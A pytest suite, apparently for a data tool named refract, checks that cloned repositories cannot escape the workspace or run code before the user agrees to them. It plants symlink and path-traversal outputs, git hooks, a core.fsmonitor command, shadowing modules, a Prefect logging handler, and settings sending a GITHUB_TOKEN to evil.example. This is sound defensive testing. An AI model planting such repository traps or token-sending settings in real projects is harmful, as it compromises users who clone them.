"""What a clone of others may do: real git and DVC, no run of anything."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from flows.checkout import finish_checkout
from flows.init import make_workspace
from flows.runtime.lock import writer
from flows.state.trust import keeping
from tasks.core.workspace.errors import InputError
from tasks.core.workspace.files import content_hash, digest
from tasks.core.workspace.paths import Paths
from tasks.core.workspace.trusting import read_trust
from tests.hostile import (
    commit,
    edit,
    everything,
    git,
    make_workspace_of_others,
    refract,
    replace_by_link,
    store_file,
)

pytestmark = pytest.mark.dvc


@pytest.fixture(autouse=True)
def _strangers(monkeypatch, tmp_path):
    """Vouch for nothing, and keep the machine's own settings of git out."""
    monkeypatch.delenv("REFRACT_TRUST")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)


@pytest.fixture(scope="module")
def _origin(tmp_path_factory):
    folder = tmp_path_factory.mktemp("others")
    return make_workspace_of_others(folder / "origin", folder / "store")


@pytest.fixture
def origin(_origin, tmp_path):
    return shutil.copytree(_origin, tmp_path / "origin", symlinks=True)


@pytest.fixture
def victim(tmp_path):
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "diary.txt").write_text("mine")
    return tmp_path / "victim"


def clone(origin):
    git(origin.parent, "clone", "--quiet", str(origin), "clone")
    return origin.parent / "clone"


def refused(root, *words):
    """Return the one line of a command that has to end with exit code 2."""
    code, _, said = refract(root, *words)
    assert code == 2, said
    assert said.count("\n") == 1, said
    return said


def set_label(root, **settings):
    lines = ", ".join(f"{key}: {value}" for key, value in settings.items())
    (root / "params.yaml").write_text(f"label: {{{lines}}}\n")


def test_a_clone_is_checked_out_once_its_remote_is_agreed_to(origin):
    root = clone(origin)
    assert "remote 'store' is at" in refused(root, "checkout", "main")
    code, said, _ = refract(root, "trust", "--yes")
    assert (code, said.count("  new: ")) == (0, 1)
    assert refract(root, "checkout", "main")[0] == 0
    assert (root / "data" / "views" / "part.txt").read_text() == "data/views"
    assert refract(root, "trust")[1].startswith("  agreed: DVC's remote")


def test_an_output_behind_a_link_of_the_clone_is_refused_and_nothing_is_written(origin, victim):
    digest_ = store_file(origin.parent / "loot", b"evil")
    replace_by_link(origin / "x", Path("../victim"))
    (origin / "data" / "notes.dvc").write_text(
        f"wdir: ..\nouts:\n- md5: {digest_}\n  hash: md5\n  path: x/diary.txt\n"
    )
    commit(origin, "evil")
    root, before = clone(origin), everything(victim)
    refract(root, "trust", "--yes")
    for words in (["checkout", "main"], ["diff", "main"], ["run"]):
        assert "notes.dvc: writes x/diary.txt, and x is a link" in refused(root, *words)
    assert everything(victim) == before


def test_a_version_whose_folders_are_links_is_refused_before_git_lays_them_out(origin, victim):
    replace_by_link(origin / "data" / "views", Path("../../victim"))
    commit(origin, "evil")
    git(origin, "tag", "evil")
    git(origin, "checkout", "--quiet", "view/mood/v1")
    root, before = clone(origin), everything(victim)
    refract(root, "trust", "--yes")
    for words in (["checkout", "evil"], ["diff", "evil"]):
        assert "data/views: is a link (or a submodule)" in refused(root, *words)
    assert everything(victim) == before
    assert not (root / "data" / "views").exists()


def test_a_list_of_the_cache_that_leads_out_of_its_folder_is_not_laid_out(origin, victim):
    store = origin.parent / "store"
    shutil.copytree(next(iter(_remote(origin))), store, dirs_exist_ok=True)
    rows = [{"md5": store_file(store, b"evil"), "relpath": "../../../victim/diary.txt"}]
    evil = store_file(store, json.dumps(rows).encode(), ".dir")
    (origin / ".dvc" / "config").write_text(
        f"[core]\n    remote = store\n['remote \"store\"']\n    url = {store}\n"
    )
    edit(
        origin,
        "dvc.lock",
        lambda note: note["stages"]["materialise"]["outs"][0].update(md5=evil),
    )
    commit(origin, "evil")
    root, before = clone(origin), everything(victim)
    refract(root, "trust", "--yes")
    assert "would be written outside of its folder" in refused(root, "checkout", "main")
    assert everything(victim) == before


def _remote(root):
    for line in (root / ".dvc" / "config").read_text().splitlines():
        if "url = " in line:
            yield Path(line.partition("url = ")[2])


def test_outputs_of_the_users_own_are_left_to_the_user_and_named(origin):
    (origin / "notes.dvc").write_text("outs:\n- md5: aaaa\n  path: notes\n")
    commit(origin, "mine")
    root = clone(origin)
    refract(root, "trust", "--yes")
    code, said, _ = refract(root, "checkout", "main")
    assert code == 0
    assert "left to you: notes" in said


def test_hooks_and_settings_of_an_unpacked_repository_run_only_once_agreed_to(origin, victim):
    canary = victim / "ran"
    hook = origin / ".git" / "hooks" / "post-checkout"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\ntouch {canary}\n")
    hook.chmod(0o755)
    git(origin, "config", "core.fsmonitor", f"touch {canary}; false")
    for words in (["checkout", "main"], ["versions"], ["run"], ["diff", "main"]):
        assert "git is set up by core.fsmonitor" in refused(origin, *words)
    assert not canary.exists()
    git(origin, "config", "--unset", "core.fsmonitor")
    assert "git runs the hook post-checkout" in refused(origin, "checkout", "main")
    refract(origin, "trust", "--yes")
    assert refract(origin, "checkout", "main")[0] == 0
    assert canary.exists()
    hook.write_text(hook.read_text() + "# another\n")
    assert "git runs the hook" in refused(origin, "checkout", "main")


def test_modules_that_lie_in_a_workspace_are_not_those_that_are_meant(origin, victim):
    for name in ("dvc", "configobj", "sitecustomize", "prefect"):
        (origin / name).mkdir()
        (origin / name / "__init__.py").write_text(f"open({str(victim / 'ran')!r}, 'w')\n")
    commit(origin, "evil")
    root = clone(origin)
    refract(root, "trust", "--yes")
    assert refract(root, "checkout", "main")[0] == 0
    assert not (victim / "ran").exists()


def test_what_a_clone_brings_in_refracts_own_folder_is_not_obeyed(origin, victim):
    """Prefect starts what `logging.yml` in its folder names, and a page runs its script."""
    home = Paths(origin).prefect_home
    home.mkdir(parents=True)
    (home / "logging.yml").write_text(
        "version: 1\nhandlers:\n  evil:\n    '()': os.mkdir\n"
        f"    path: {victim / 'ran'}\nroot:\n  handlers: [evil]\n"
    )
    command = (
        "from pathlib import Path; from flows.runtime.prefect_settings import keep_to;"
        "from tasks.core.workspace.paths import Paths; keep_to(Paths(Path()));"
        "from prefect.logging.configuration import setup_logging; setup_logging()"
    )
    clean = {key: value for key, value in os.environ.items() if not key.startswith("PREFECT_")}
    before = everything(victim)
    subprocess.run([sys.executable, "-c", command], cwd=origin, env=clean, capture_output=True)
    assert everything(victim) == before
    assert not keeping(Paths(origin)).resolve().is_relative_to(origin.resolve())
    assert everything(home).keys() == {str(home / "logging.yml")}


def test_a_note_of_half_a_checkout_that_came_along_runs_no_hook(origin, victim):
    hook = origin / ".git" / "hooks" / "post-checkout"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\ntouch {victim}/ran\n")
    hook.chmod(0o755)
    note = {"to": "main", "commit": git(origin, "rev-parse", "HEAD"), "from": "main"}
    Paths(origin).state.mkdir()
    Paths(origin).unfinished_checkout.write_text(json.dumps(note))
    (origin / ".dvc" / "config").write_text("")
    before = everything(victim)
    with pytest.raises(InputError, match="git runs the hook post-checkout"):
        finish_checkout(Paths(origin))
    assert everything(victim) == before


@pytest.mark.parametrize("place", [".git/config", ".dvc/config", "params.yaml", "data/raw.dvc"])
def test_a_note_of_half_an_exchange_that_came_along_lays_out_no_settings(origin, place):
    paths, target = Paths(origin), origin / place
    before = target.read_bytes() if target.exists() else None
    target.with_name(f".{target.name}.next.tmp").write_bytes(b"evil")
    paths.state.mkdir()
    note = {"new": [place], "hashes": [content_hash(b"evil")], "gone": [place]}
    paths.exchange.write_text(json.dumps(note))
    with writer(paths):
        assert (target.read_bytes() if target.exists() else None) == before
    assert not paths.exchange.exists()


def test_texts_and_a_key_go_nowhere_until_the_host_is_agreed_to(origin):
    set_label(origin, base_url="https://evil.example/v1", key_env="GITHUB_TOKEN", model="m")
    commit(origin, "evil")
    root = clone(origin)
    said = refused(root, "label", "reason", "--instruction", "x")
    assert "sends texts to evil.example, with what GITHUB_TOKEN holds as the key" in said
    assert refract(root, "status")[0] == 0
    refract(root, "trust", "--yes")
    assert "no base vectors" in refused(root, "label", "reason", "--instruction", "x", "--dry-run")
    set_label(origin, base_url="https://evil.example/v2", key_env="GITHUB_TOKEN", model="m")
    commit(origin, "another")
    git(root, "pull", "--quiet")
    assert "refract trust" in refused(root, "label", "reason", "--instruction", "x")


def test_documents_of_elsewhere_a_remote_and_prefects_settings_are_asked_for(origin, victim):
    (origin / "params.yaml").write_text(
        f"ingest: {{sources: [{victim}]}}\nrecord: {{push: true}}\n"
    )
    (origin / ".env").write_text("PREFECT_API_URL=http://evil.example/api\n")
    commit(origin, "evil")
    root = clone(origin)
    assert f"ingest.sources reads {victim}" in refused(root, "ingest")
    assert "ingest.sources reads" in refused(root, "run")
    code, said, _ = refract(root, "status", "--json")
    assert code == 0
    assert "refract trust" in json.loads(said)["corpus"]["reason"]
    told = refract(root, "trust")[1]
    assert "record.push sends" in told
    assert "Prefect is set up by .env" in told
    assert "remote 'store'" in told


def test_a_workspace_made_here_is_asked_for_nothing_until_something_was_fetched_into_it(tmp_path):
    make_workspace(tmp_path / "shop", git=True)
    shop = tmp_path / "shop"
    set_label(shop, base_url="https://llm.example/v1", model="m")
    assert "no base vectors" in refused(shop, "label", "reason", "--instruction", "x", "--dry-run")
    assert "made here" in refract(shop, "trust")[1]
    (shop / ".git" / "FETCH_HEAD").write_text("")
    assert "1 things to agree to" in refused(shop, "trust")
    refract(shop, "trust", "--yes")
    assert "agreed: 'refract label' sends texts to llm.example" in refract(shop, "trust")[1]


def test_a_note_of_trust_is_private_and_is_not_that_of_whoever_comes_in_the_same_place(tmp_path):
    make_workspace(tmp_path / "shop", git=False)
    paths = Paths(tmp_path / "shop")
    note = next((tmp_path / "state").rglob("*.json"))
    assert note.stem == digest(str(paths.root))
    assert [note.stat().st_mode & 0o777, paths.trust_token.stat().st_mode & 0o777] == [0o600] * 2
    assert read_trust(paths).made_here
    shutil.rmtree(paths.root)
    shutil.copytree(Path(__file__).parents[2] / "data" / "labels", paths.labels)
    assert read_trust(paths) is None


def test_a_repository_of_another_owner_is_told_with_the_cure(origin, monkeypatch):
    root = clone(origin)
    monkeypatch.setenv("GIT_TEST_ASSUME_DIFFERENT_OWNER", "1")
    for words in (["versions"], ["run"], ["checkout", "main"]):
        said = refused(root, *words)
        assert "is a git repository of another user" in said
        assert f"git config --global --add safe.directory {root}" in said


@pytest.mark.parametrize("file", ["dvc.lock", "dvc.yaml", "params.yaml", "notes.dvc"])
def test_a_file_that_is_half_merged_is_told_at_once(origin, monkeypatch, file):
    monkeypatch.setenv("REFRACT_TRUST", str(origin))
    place = origin / file
    kept = place.read_text() if place.exists() else "outs: []\n"
    place.write_text(f"<<<<<<< HEAD\n{kept}=======\n{kept}>>>>>>> other\n")
    commit(origin, "half merged")
    git(origin, "tag", "merged")
    for words in (["run"], ["checkout", "merged"], ["diff", "HEAD"]):
        assert "line 1 holds a mark of a merge (<<<<<<<)" in refused(origin, *words)
    assert file in refused(origin, "run")
